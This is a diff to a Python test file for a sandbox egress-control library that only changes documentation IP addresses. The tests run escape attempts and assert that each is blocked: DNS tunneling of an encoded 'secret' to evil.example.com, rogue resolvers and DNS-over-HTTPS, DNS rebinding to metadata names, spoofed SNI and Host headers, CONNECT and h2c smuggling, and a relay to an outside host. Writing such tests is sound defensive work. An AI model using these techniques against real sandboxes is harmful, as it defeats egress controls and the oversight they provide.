@@ -17,7 +17,7 @@ from tests.internet import Internet
 
 from libdsec import DSecClient, DSecContainerRunArgs, Sandbox
 
-FAR = "203.0.113.7"
+FAR = "192.0.2.7"
 WIDE = {"0.0.0.0/0": True, "::/0": True, "www.example.org": True}
 NAMED = {"www.example.org": True, "*.tunnel.example": True, "private.example.org": True, "metadata.example.org": True, "mixed.example.org": True}
 
@@ -68,14 +68,14 @@ def rtnl(kind, body):
     number = -struct.unpack_from("=i", s.recv(4096), 16)[0]
     return errno.errorcode.get(number, number)
 """
-    address = 'struct.pack("=BBBBI", 2, 24, 0, 0, 100) + struct.pack("=HH4s", 8, 2, socket.inet_aton("203.0.113.99"))'
+    address = 'struct.pack("=BBBBI", 2, 24, 0, 0, 100) + struct.pack("=HH4s", 8, 2, socket.inet_aton("192.0.2.99"))'
     route = 'struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 0, 1, 0) + struct.pack("=HH4s", 8, 1, socket.inet_aton("10.0.0.1")) + struct.pack("=HHI", 8, 4, 100)'
     link = 'struct.pack("=BBHiII", 0, 0, 0, 100, 0, 1)'
     spoof = """
 def spoof(kind, option):
     with socket.socket(socket.AF_INET, kind) as s:
         s.setsockopt(socket.IPPROTO_IP, option, 1)
-        s.settimeout(1); s.bind(("100.99.0.250", 0)); s.connect(("203.0.113.7", 7000)); s.send(b"x")
+        s.settimeout(1); s.bind(("100.99.0.250", 0)); s.connect(("192.0.2.7", 7000)); s.send(b"x")
         return "sent"
 spoof = tried(spoof)
 """
@@ -140,12 +140,12 @@ async def test_names_are_no_way_out(boxes: dict[str, Sandbox], internet: Interne
     await attacks.try_all(
         "names", "the only resolver is the node's, and it asks for allowed names only",
         tunnel=('question("c2VjcmV0.evil.example.com")', nothing), tunnel_txt=('question("c2VjcmV0.evil.example.com", 16)', nothing),
-        another_resolver=('question("www.example.org", server="203.0.113.53")', ("EHOSTUNREACH", "ECONNREFUSED")),
-        resolver_tcp=('tcp("203.0.113.53", 53)', "ECONNREFUSED"), doh=('web("dns.example.com", "203.0.113.53")', ("ECONNRESET", "no handshake")),
+        another_resolver=('question("www.example.org", server="192.0.2.53")', ("EHOSTUNREACH", "ECONNREFUSED")),
+        resolver_tcp=('tcp("192.0.2.53", 53)', "ECONNREFUSED"), doh=('web("dns.example.com", "192.0.2.53")', ("ECONNRESET", "no handshake")),
         text_of_an_allowed_name=('question("www.example.org", 16)', {"code": 0, "answers": 0}),
         rebinding=('question("private.example.org")', {"code": 0, "answers": 0}),
         rebinding_metadata=('question("metadata.example.org")', {"code": 0, "answers": 0}),
-        rebinding_mixed=('resolve("mixed.example.org")', (["203.0.113.12"],)),
+        rebinding_mixed=('resolve("mixed.example.org")', (["192.0.2.12"],)),
         garbage=("udp('169.254.1.1', 53, os.urandom(300))", "timeout"),
     )  # fmt: skip
     assert set(internet.asked()) <= {"www.example.org", "private.example.org", "metadata.example.org", "mixed.example.org"}
@@ -165,7 +165,7 @@ def relay():
     with relaying:
         c, _ = relaying.accept()
         line = c.recv(4096)
-        far = socket.create_connection(("203.0.113.66", 443), 3)
+        far = socket.create_connection(("192.0.2.66", 443), 3)
         c.send(b"HTTP/1.1 200 OK\\r\\n\\r\\n"); far.send(c.recv(4096)); c.send(far.recv(4096)); c.close()
 threading.Thread(target=tried(relay), daemon=True).start()
 def through():
@@ -178,18 +178,18 @@ through = tried(through)
     found = await attacks.try_all(
         "another name", "the name that a connection says is held against the rules and against the addresses of that name",
         works=('web("www.example.org")["sni"]', "www.example.org"),
-        spoofed_name=('web("www.example.org", "203.0.113.66")', reset),
-        name_of_a_server_next_to_it=('web("evil.example.com", "203.0.113.10")', reset), no_name=('web("www.example.org", "203.0.113.10", "")', reset),
-        spoofed_host=('web("www.example.org", "203.0.113.66", port=80)', reset), literal=('web("203.0.113.66", port=80)', reset),
-        literal_of_an_allowed_address=('web("203.0.113.10", port=80)', reset), second_request=(f'(lambda got: got if isinstance(got, str) else got["host"])(web("www.example.org", port=80, raw={two}))', ("www.example.org", *reset)),
+        spoofed_name=('web("www.example.org", "192.0.2.66")', reset),
+        name_of_a_server_next_to_it=('web("evil.example.com", "192.0.2.10")', reset), no_name=('web("www.example.org", "192.0.2.10", "")', reset),
+        spoofed_host=('web("www.example.org", "192.0.2.66", port=80)', reset), literal=('web("192.0.2.66", port=80)', reset),
+        literal_of_an_allowed_address=('web("192.0.2.10", port=80)', reset), second_request=(f'(lambda got: got if isinstance(got, str) else got["host"])(web("www.example.org", port=80, raw={two}))', ("www.example.org", *reset)),
         connect=('web("www.example.org", port=80, raw=b"CONNECT evil.example.com:443 HTTP/1.1\\r\\n\\r\\n")', reset),
         absolute=('web("www.example.org", port=80, raw=b"GET http://evil.example.com/ HTTP/1.1\\r\\nHost: www.example.org\\r\\n\\r\\n")', reset),
         not_http=('web("www.example.org", port=80, raw=b"SSH-2.0-x\\r\\n")', reset), upgrade=('web("www.example.org", port=80, raw=b"GET / HTTP/1.1\\r\\nHost: www.example.org\\r\\nUpgrade: h2c\\r\\n\\r\\n")', reset),
-        quic=('udp("203.0.113.10", 443)', ("EHOSTUNREACH",)), another_port=('tcp("203.0.113.10", 7000)', "ECONNREFUSED"),
+        quic=('udp("192.0.2.10", 443)', ("EHOSTUNREACH",)), another_port=('tcp("192.0.2.10", 7000)', "ECONNREFUSED"),
         relay=(relay + "through()", reset),
     )  # fmt: skip
     assert found
-    assert {visit for visit in internet.visits() if visit[0] == "tcp"} <= {("tcp", "203.0.113.10", 80), ("tcp", "203.0.113.10", 443), ("tcp", "2001:db8:1::10", 443), ("tcp", "2001:db8:1::10", 80)}
+    assert {visit for visit in internet.visits() if visit[0] == "tcp"} <= {("tcp", "192.0.2.10", 80), ("tcp", "192.0.2.10", 443), ("tcp", "2001:db8:1::10", 443), ("tcp", "2001:db8:1::10", 80)}
     told = {e.details["reason"]: e.count for e in await boxes["named"].events(kind="egress_denied")}
     print("told:", told)
     assert set(told) >= {"address_of_another_name", "name", "no_name", "address_as_name", "another_host", "connect", "bad_name", "not_http", "upgrade", "no_rule"}
